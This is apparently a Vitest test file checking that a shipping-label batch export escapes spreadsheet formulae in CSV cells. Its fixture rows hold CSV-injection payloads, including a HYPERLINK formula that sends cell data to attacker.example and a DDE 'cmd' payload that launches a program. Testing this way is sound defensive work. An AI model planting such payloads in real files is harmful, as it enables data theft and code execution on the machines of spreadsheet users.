import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { labelDraft } from '../fixtures/label-drafts';
import { batchStoreFor } from '../support/batch-station';
import { createTestStation } from '../support/test-station';

/** CSV exports escape formulae (issue 12, item 7). */

const cleanup: (() => Promise<void> | void)[] = [];
afterAll(async () => {
  for (const fn of cleanup.splice(0).reverse()) await fn();
});

describe('the batch results export', () => {
  it('puts a quote before every cell a spreadsheet would run as a formula (=, +, -, @, tab, carriage return), and only those', async () => {
    const station = createTestStation();
    cleanup.push(() => station.close());
    const store = batchStoreFor(station.services.database);
    // Order numbers come from the file; reasons from the courier or the API.
    const rows: { orderNumber: string; message: string }[] = [
      { orderNumber: '=HYPERLINK("http://attacker.example/?"&A1,"Open")', message: '@SUM(1+1)*cmd|" /C calc"!A0' },
      { orderNumber: '+1-212-555-0100', message: '\t=1+1' },
      { orderNumber: '-5', message: '\r=1+1' },
      { orderNumber: '@ORDER', message: '=1+1\nsecond line' },
      { orderNumber: 'ORDER-1', message: 'Postal code is required.' },
      { orderNumber: 'ORDER-2', message: ' =not at the start' },
    ];
    const run = store.createRun({ drafts: rows.map((r) => labelDraft(r.orderNumber)), concurrency: 1 }, Date.now());
    rows.forEach((r, position) => store.recordOutcome(run.id, position, { state: 'rejected', message: r.message }, Date.now()));

    const saved = await station.client.batch.exportResults({ runId: run.id });
    expect(saved).toMatchObject({ ok: true, value: { saved: true } });
    const text = readFileSync((saved as { value: { path: string } }).value.path, 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, ...data] = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
    expect(header).toEqual(['Order number', 'Outcome', 'Label ID', 'Tracking number', 'Reason']);
    expect(data.map(([order, , , , reason]) => [order, reason])).toEqual([
      [`'=HYPERLINK("http://attacker.example/?"&A1,"Open")`, `'@SUM(1+1)*cmd|" /C calc"!A0`],
      // A phone-like order number and a negative number are prefixed too: every cell is text here.
      [`'+1-212-555-0100`, `'\t=1+1`],
      [`'-5`, `'\r=1+1`],
      // Papa's own pattern for escapeFormulae: true misses a value with a line break in it.
      [`'@ORDER`, `'=1+1\nsecond line`],
      ['ORDER-1', 'Postal code is required.'],
      ['ORDER-2', ' =not at the start'],
    ]);
  });
});
